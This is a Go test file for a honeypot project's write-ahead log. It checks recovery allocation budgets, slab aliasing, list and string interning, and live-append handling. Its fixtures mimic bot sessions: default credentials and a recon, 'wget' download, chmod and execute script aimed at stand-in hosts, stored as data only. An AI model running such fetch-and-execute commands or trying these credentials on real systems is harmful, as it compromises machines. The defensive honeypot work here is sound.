package wal

// What a recovery allocates, and what it must still get right while
// allocating little: the scan reads every segment into one reused
// buffer, carves records and their slices from chunked slabs shared
// across frames, interns every string field and hands a repeated
// command or URI list out once, so a restart costs about what the
// recovered records keep.

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"testing"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/wire"
)

// The recovery budget per record, for Open and for Read. A log of one
// replayed script holds each record's command and URI lists once.
const (
	maxAllocsPerRec      = 0.5
	maxBytesPerRec       = 600
	maxScriptBytesPerRec = 480
)

// mixedRecords builds n deterministic records shaped like the
// generator's: Table 1's category mix, most sessions from a client IP
// seen before replaying the same few credentials and command
// templates, and every few a value no other record has.
func mixedRecords(first uint64, n int) []*honeypot.SessionRecord {
	creds := []honeypot.LoginAttempt{
		{User: "root", Password: "root"}, {User: "admin", Password: "admin"},
		{User: "root", Password: "123456"}, {User: "ubnt", Password: "ubnt"},
	}
	cmds := []honeypot.CommandRecord{
		{Input: "uname -a", Known: true}, {Input: "cat /proc/cpuinfo", Known: true},
		{Input: "cd /tmp", Known: true}, {Input: "wget http://update.example/payload", Known: true},
		{Input: "./payload"},
	}
	out := make([]*honeypot.SessionRecord, n)
	for i := range out {
		id := first + uint64(i)
		r := &honeypot.SessionRecord{
			ID:         id,
			HoneypotID: int(id % 221),
			Protocol:   honeypot.Protocol(id % 2),
			ClientIP:   fmt.Sprintf("198.51.%d.%d", id%7, id%13),
			ClientPort: 1024 + int(id%60000),
			Start:      testEpoch.Add(time.Duration(id) * time.Second),
			End:        testEpoch.Add(time.Duration(id)*time.Second + 30*time.Second),
		}
		if id%10 == 0 {
			r.ClientIP = fmt.Sprintf("203.0.%d.%d", id/256%256, id%256)
		}
		login := []honeypot.LoginAttempt{{User: "root", Password: "admin", Success: true}}
		switch c := id % 20; {
		case c < 5: // NO_CRED
			r.Termination = honeypot.TermClient
		case c < 14: // FAIL_LOG: one to three attempts
			r.ClientVersion = "SSH-2.0-Go"
			for k := uint64(0); k <= id/20%3; k++ {
				r.Logins = append(r.Logins, creds[(id+k)%uint64(len(creds))])
			}
			if c == 13 {
				r.Logins[0].Password = fmt.Sprintf("pw-%d", id)
			}
			r.Termination = honeypot.TermAuthFailure
		case c < 17: // NO_CMD
			r.Logins = login
			r.Termination = honeypot.TermTimeout
		case c < 19: // CMD
			r.Logins, r.Commands = login, cmds[:2]
			r.Termination = honeypot.TermExit
		default: // CMD+URI
			r.Logins, r.Commands = login, cmds[2:]
			r.URIs = []string{fmt.Sprintf("http://dl-%d.example/payload", id%50)}
			r.Files = []honeypot.FileRecord{{Path: "/tmp/payload", Hash: fmt.Sprintf("%064x", id%40), Op: "create", Size: 4096}}
			r.Transcript = []byte(fmt.Sprintf("Linux pot-%d 4.19.0\n", r.HoneypotID))
			r.Termination = honeypot.TermExit
		}
		out[i] = r
	}
	return out
}

// intrusionScript is the six-line CMD+URI session a download bot
// replays: recon, download, chmod, execute.
var intrusionScript = []string{
	"uname -a",
	"cat /proc/cpuinfo",
	"free -m",
	"wget http://203.0.113.9/bins.sh",
	"chmod +x bins.sh",
	"./bins.sh",
}

// scriptRecords builds n records shaped like the wire front's under one
// bot: Telnet sessions that log in and replay intrusionScript, each
// record's command and URI lists built anew, as a collector builds them.
func scriptRecords(first uint64, n int) []*honeypot.SessionRecord {
	out := make([]*honeypot.SessionRecord, n)
	for i := range out {
		id := first + uint64(i)
		r := &honeypot.SessionRecord{
			ID:          id,
			HoneypotID:  int(id % 8),
			Protocol:    honeypot.Telnet,
			ClientIP:    "127.0.0.1",
			ClientPort:  32768 + int(id%28000),
			Start:       testEpoch.Add(time.Duration(id) * time.Second),
			End:         testEpoch.Add(time.Duration(id)*time.Second + 2*time.Second),
			Logins:      []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}},
			URIs:        []string{"http://203.0.113.9/bins.sh"},
			Termination: honeypot.TermExit,
		}
		for _, c := range intrusionScript {
			r.Commands = append(r.Commands, honeypot.CommandRecord{Input: c, Known: c != "./bins.sh"})
		}
		out[i] = r
	}
	return out
}

// writeLog appends batches of gen's records to a fresh log in dir and
// returns them in log order.
func writeLog(tb testing.TB, dir string, segBytes int64, gen func(uint64, int) []*honeypot.SessionRecord, sizes []int) []Batch {
	tb.Helper()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: segBytes})
	if err != nil {
		tb.Fatal(err)
	}
	var out []Batch
	next := uint64(1)
	for i, n := range sizes {
		b := Batch{Tag: uint64(i), Records: gen(next, n)}
		if err := l.AppendTagged(b.Tag, b.Records); err != nil {
			tb.Fatal(err)
		}
		out, next = append(out, b), next+uint64(n)
	}
	if err := l.Close(); err != nil {
		tb.Fatal(err)
	}
	return out
}

// budgetShape is one log the budget tests and BenchmarkOpen recover,
// and what a recovery of it may allocate per record.
type budgetShape struct {
	name     string
	batch    int
	gen      func(uint64, int) []*honeypot.SessionRecord
	maxBytes float64
}

// budgetShapes are mixedRecords in batches of 250 and in one-record
// frames — what the wire front's sink writes — and one-record frames of
// one replayed script, whose repeated command and URI lists a recovery
// decodes once.
var budgetShapes = []budgetShape{
	{"batch=250", 250, mixedRecords, maxBytesPerRec},
	{"batch=1", 1, mixedRecords, maxBytesPerRec},
	{"script", 1, scriptRecords, maxScriptBytesPerRec},
}

// budgetLog writes the log of a shape: 6,000 records in batches of its
// size over 128 KiB segments.
func budgetLog(tb testing.TB, dir string, shape budgetShape) (records, segments int) {
	tb.Helper()
	sizes := make([]int, 6000/shape.batch)
	for i := range sizes {
		sizes[i] = shape.batch
	}
	writeLog(tb, dir, 128<<10, shape.gen, sizes)
	segs, err := listSegments(iofault.OS, dir)
	if err != nil {
		tb.Fatal(err)
	}
	if len(segs) < 3 {
		tb.Fatalf("log spans %d segments, want at least 3", len(segs))
	}
	return 6000, len(segs)
}

// allocsPerRec runs read and reports what it allocated per record.
func allocsPerRec(records int, read func()) (allocs, bytes float64) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	read()
	runtime.ReadMemStats(&after)
	n := float64(records)
	return float64(after.Mallocs-before.Mallocs) / n, float64(after.TotalAlloc-before.TotalAlloc) / n
}

// TestRecoverAllocBudget gates what Open allocates per recovered
// record: the records it returns and little else, whether the log
// holds large batches or one record per frame.
func TestRecoverAllocBudget(t *testing.T) {
	for _, shape := range budgetShapes {
		t.Run(shape.name, func(t *testing.T) {
			dir := t.TempDir()
			records, segs := budgetLog(t, dir, shape)
			var got int
			allocs, bytes := allocsPerRec(records, func() {
				l, rec, err := Open(dir, Options{})
				if err != nil {
					t.Fatal(err)
				}
				got = rec.Records()
				if err := l.Close(); err != nil {
					t.Fatal(err)
				}
			})
			if got != records {
				t.Fatalf("recovered %d records, want %d", got, records)
			}
			t.Logf("Open over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
			if allocs > maxAllocsPerRec || bytes > shape.maxBytes {
				t.Errorf("Open allocated %.2f objects and %.0f B per record, budget %.1f and %.0f B",
					allocs, bytes, maxAllocsPerRec, shape.maxBytes)
			}
		})
	}
}

// TestIteratorAllocBudget holds a read-only drain of the same logs
// through Read, the reader behind analyze -in, to the same budget.
func TestIteratorAllocBudget(t *testing.T) {
	for _, shape := range budgetShapes {
		t.Run(shape.name, func(t *testing.T) {
			dir := t.TempDir()
			records, segs := budgetLog(t, dir, shape)
			var got int
			allocs, bytes := allocsPerRec(records, func() {
				rec, err := Read(dir)
				if err != nil {
					t.Fatal(err)
				}
				got = rec.Records()
			})
			if got != records {
				t.Fatalf("read %d records, want %d", got, records)
			}
			t.Logf("Read over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
			if allocs > maxAllocsPerRec || bytes > shape.maxBytes {
				t.Errorf("Read allocated %.2f objects and %.0f B per record, budget %.1f and %.0f B",
					allocs, bytes, maxAllocsPerRec, shape.maxBytes)
			}
		})
	}
}

// TestSlabCarvesDoNotAlias appends to every slice of each recovered
// record, and to each batch's record slice: the neighbour carved next
// from the same chunk must read back byte for byte as before. Records
// come from one 250-record frame and from consecutive one-record frames.
func TestSlabCarvesDoNotAlias(t *testing.T) {
	for _, batch := range []int{250, 1} {
		t.Run(fmt.Sprintf("batch=%d", batch), func(t *testing.T) {
			// Every record holds all four slices, so each carve has a
			// neighbour in the same chunk.
			appended := mixedRecords(1, 250)
			for _, r := range appended {
				r.Logins = append(r.Logins, honeypot.LoginAttempt{User: "u", Password: r.ClientIP})
				// mixedRecords' records share one command list.
				r.Commands = append(slices.Clip(r.Commands), honeypot.CommandRecord{Input: r.ClientIP})
				r.URIs = append(r.URIs, "http://"+r.ClientIP+"/x")
				r.Files = append(r.Files, honeypot.FileRecord{Path: "/tmp/" + r.ClientIP, Op: "create"})
			}
			dir := t.TempDir()
			l, _, err := Open(dir, Options{Epoch: testEpoch})
			if err != nil {
				t.Fatal(err)
			}
			for i := 0; i < len(appended); i += batch {
				if err := l.AppendTagged(uint64(i), appended[i:i+batch]); err != nil {
					t.Fatal(err)
				}
			}
			if err := l.Close(); err != nil {
				t.Fatal(err)
			}
			l, rec, err := Open(dir, Options{})
			if err != nil {
				t.Fatal(err)
			}
			defer l.Close()
			var recs []*honeypot.SessionRecord
			for _, b := range rec.Batches {
				recs = append(recs, b.Records...)
			}
			encoded := func(r *honeypot.SessionRecord) string {
				return string(EncodeBatchFrame(nil, 0, []*honeypot.SessionRecord{r}))
			}
			for i := 0; i+1 < len(recs); i++ {
				next := encoded(recs[i+1])
				r := recs[i]
				r.Logins = append(r.Logins, honeypot.LoginAttempt{User: "appended"})
				r.Commands = append(r.Commands, honeypot.CommandRecord{Input: "appended"})
				r.URIs = append(r.URIs, "appended")
				r.Files = append(r.Files, honeypot.FileRecord{Path: "appended"})
				if encoded(recs[i+1]) != next {
					t.Fatalf("appending to record %d's slices changed record %d", i, i+1)
				}
			}
			for i := 0; i+1 < len(rec.Batches); i++ {
				next := rec.Batches[i+1].Records[0]
				_ = append(rec.Batches[i].Records, nil)
				if rec.Batches[i+1].Records[0] != next {
					t.Fatalf("appending to batch %d's records changed batch %d", i, i+1)
				}
			}
		})
	}
}

// TestRepeatedListsShare recovers a log that replays one script, in
// one-record frames and then in a batch, with every fifth record's
// script changed in its last command's Known flag or its URI: each
// record reads back as appended, and the records of one script share
// one command array and one URI array, across frames and segments.
func TestRepeatedListsShare(t *testing.T) {
	appended := scriptRecords(1, 200)
	for i, r := range appended {
		switch i % 10 {
		case 4:
			r.Commands[len(r.Commands)-1].Known = true
		case 9:
			r.URIs = append(r.URIs, "http://203.0.113.9/bins.arm")
		}
	}
	dir := t.TempDir()
	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 8 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 150; i++ {
		if err := l.AppendTagged(uint64(i), appended[i:i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.AppendTagged(150, appended[150:]); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	read, err := Read(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(read.Segments) < 3 {
		t.Fatalf("log spans %d segments, want at least 3", len(read.Segments))
	}
	var got []*honeypot.SessionRecord
	for _, b := range read.Batches {
		got = append(got, b.Records...)
	}
	if !reflect.DeepEqual(got, appended) {
		t.Fatal("recovered records differ from those appended")
	}
	// The first record of each variant holds the array every later one
	// of the same variant must share; variants must not share theirs.
	cmds := map[bool]*honeypot.CommandRecord{}
	uris := map[int]*string{}
	for i, r := range got {
		if len(r.Commands) != cap(r.Commands) || len(r.URIs) != cap(r.URIs) {
			t.Fatalf("record %d: a shared list has spare capacity", i)
		}
		known := r.Commands[len(r.Commands)-1].Known
		if first, ok := cmds[known]; !ok {
			cmds[known] = &r.Commands[0]
		} else if first != &r.Commands[0] {
			t.Errorf("record %d does not share its script's command array", i)
		}
		if first, ok := uris[len(r.URIs)]; !ok {
			uris[len(r.URIs)] = &r.URIs[0]
		} else if first != &r.URIs[0] {
			t.Errorf("record %d does not share its URI array", i)
		}
	}
	if cmds[true] == cmds[false] || uris[1] == uris[2] {
		t.Error("different lists share one array")
	}
}

// TestListCollision alternates lists whose encodings share a
// list-table slot across the records of one batch — two commands that
// differ only in Known, two that differ only in input, and two URIs:
// each record still decodes its own lists.
func TestListCollision(t *testing.T) {
	slot := func(b *wire.Builder) uint64 { return hashBytes(b.Bytes()) % listSlots }
	cmdSlot := func(c honeypot.CommandRecord) uint64 {
		return slot(wire.NewBuilder(64).Uint32(1).Text(c.Input).Bool(c.Known))
	}
	uriSlot := func(u string) uint64 { return slot(wire.NewBuilder(64).Uint32(1).Text(u)) }
	var cmds []honeypot.CommandRecord
	for i := 0; len(cmds) < 2; i++ {
		c := honeypot.CommandRecord{Input: fmt.Sprintf("cd /tmp/%d", i), Known: true}
		if other := (honeypot.CommandRecord{Input: c.Input}); cmdSlot(c) == cmdSlot(other) {
			cmds = append(cmds, c, other)
		}
	}
	firstCmd := map[uint64]honeypot.CommandRecord{}
	for i := 0; len(cmds) < 4; i++ {
		c := honeypot.CommandRecord{Input: fmt.Sprintf("uname -%d", i), Known: true}
		if prev, ok := firstCmd[cmdSlot(c)]; ok {
			cmds = append(cmds, prev, c)
		}
		firstCmd[cmdSlot(c)] = c
	}
	var uris []string
	firstURI := map[uint64]string{}
	for i := 0; len(uris) < 2; i++ {
		u := fmt.Sprintf("http://198.51.100.%d/x", i)
		if prev, ok := firstURI[uriSlot(u)]; ok {
			uris = append(uris, prev, u)
		}
		firstURI[uriSlot(u)] = u
	}
	recs := mkRecords(1, 64)
	for i, r := range recs {
		r.Commands = []honeypot.CommandRecord{cmds[i%4]}
		r.URIs = []string{uris[i%2]}
	}
	got := binaryRoundTrip(t, 1, recs)
	for i, r := range got.Records {
		if !reflect.DeepEqual(r.Commands, recs[i].Commands) || !reflect.DeepEqual(r.URIs, recs[i].URIs) {
			t.Fatalf("record %d decoded %+v %q, want %+v %q", i, r.Commands, r.URIs, recs[i].Commands, recs[i].URIs)
		}
	}
}

// TestInternCollision alternates two strings that share an intern slot
// across the records of one batch: each record still decodes its own.
func TestInternCollision(t *testing.T) {
	slot := func(s string) uint64 { return hashBytes([]byte(s)) % internSlots }
	first := map[uint64]string{}
	var a, b string
	for i := 0; b == ""; i++ {
		s := fmt.Sprintf("192.0.2.%d:%d", i%256, i/256)
		if prev, ok := first[slot(s)]; ok {
			a, b = prev, s
		}
		first[slot(s)] = s
	}
	recs := mkRecords(1, 64)
	for i, r := range recs {
		r.ClientIP = []string{a, b}[i%2]
		r.Logins = []honeypot.LoginAttempt{{User: r.ClientIP, Password: []string{b, a}[i%2]}}
	}
	got := binaryRoundTrip(t, 1, recs)
	for i, r := range got.Records {
		if r.ClientIP != recs[i].ClientIP || !reflect.DeepEqual(r.Logins, recs[i].Logins) {
			t.Fatalf("record %d decoded %q %+v, want %q %+v", i, r.ClientIP, r.Logins, recs[i].ClientIP, recs[i].Logins)
		}
	}
}

// TestRecoverBufferReuse recovers a log whose later segments are both
// shorter and longer than the first, so the scan's one buffer is
// overwritten in place and regrown: every record must still equal what
// was appended once the scan has returned.
func TestRecoverBufferReuse(t *testing.T) {
	dir := t.TempDir()
	// One batch per segment: every append fills one.
	want := writeLog(t, dir, 1, mixedRecords, []int{40, 5, 120, 20, 3, 200, 60})
	l, rec, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if len(rec.Segments) < len(want) {
		t.Fatalf("log spans %d segments, want %d", len(rec.Segments), len(want))
	}
	if !reflect.DeepEqual(rec.Batches, want) {
		for i := range want {
			if !reflect.DeepEqual(rec.Batches[i], want[i]) {
				t.Fatalf("batch %d (segment %s) does not read back as appended", i, rec.Segments[i].Name)
			}
		}
		t.Fatalf("recovered %d batches, want %d", len(rec.Batches), len(want))
	}
}

// appendingFS appends one intact batch frame to every segment it opens
// for reading before it hands the file over: a writer that got in
// between a scan's listing and its read.
type appendingFS struct {
	iofault.FS
	t *testing.T
}

func (a appendingFS) OpenFile(name string, flag int, perm os.FileMode) (iofault.File, error) {
	if flag == os.O_RDONLY {
		f, err := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			return nil, err
		}
		if _, err := f.Write(EncodeBatchFrame(nil, 1000, mkRecords(1000, 2))); err != nil {
			a.t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			a.t.Fatal(err)
		}
	}
	return a.FS.OpenFile(name, flag, perm)
}

// TestVerifyLiveAppend: a verification racing a writer reports the
// segment it listed — the frames of the listed prefix and no torn
// bytes — however far the file grew since.
func TestVerifyLiveAppend(t *testing.T) {
	dir := t.TempDir()
	want := writeLog(t, dir, 8<<20, mixedRecords, []int{10, 10, 10})
	listed, err := listSegments(iofault.OS, dir)
	if err != nil {
		t.Fatal(err)
	}
	rec, err := scan(appendingFS{iofault.OS, t}, dir, testEpoch, false)
	if err != nil {
		t.Fatal(err)
	}
	seg := rec.Segments[0]
	if seg.Bytes != listed[0].Bytes || seg.GoodBytes != seg.Bytes || seg.TornBytes != 0 || rec.TornBytes != 0 {
		t.Errorf("segment listed at %d bytes read as %d good, %d torn (total torn %d)",
			listed[0].Bytes, seg.GoodBytes, seg.TornBytes, rec.TornBytes)
	}
	if seg.Frames != len(want) || len(rec.Batches) != len(want) {
		t.Errorf("read %d frames, %d batches; the listed prefix holds %d", seg.Frames, len(rec.Batches), len(want))
	}
	info, err := os.Stat(filepath.Join(dir, seg.Name))
	if err != nil {
		t.Fatal(err)
	}
	if info.Size() <= seg.Bytes {
		t.Fatalf("the writer did not get in: segment still %d bytes", info.Size())
	}
}

// BenchmarkOpen recovers a fixed multi-segment log of each budget
// shape: the recovery row of the package, reported per record.
func BenchmarkOpen(b *testing.B) {
	for _, shape := range budgetShapes {
		b.Run(shape.name, func(b *testing.B) {
			dir := b.TempDir()
			records, _ := budgetLog(b, dir, shape)
			b.ReportAllocs()
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				l, _, err := Open(dir, Options{})
				if err != nil {
					b.Fatal(err)
				}
				if err := l.Close(); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			runtime.ReadMemStats(&after)
			n := float64(records * b.N)
			b.ReportMetric(n/b.Elapsed().Seconds(), "records/s")
			b.ReportMetric(float64(after.Mallocs-before.Mallocs)/n, "allocs/record")
			b.ReportMetric(float64(after.TotalAlloc-before.TotalAlloc)/n, "B/record")
		})
	}
}
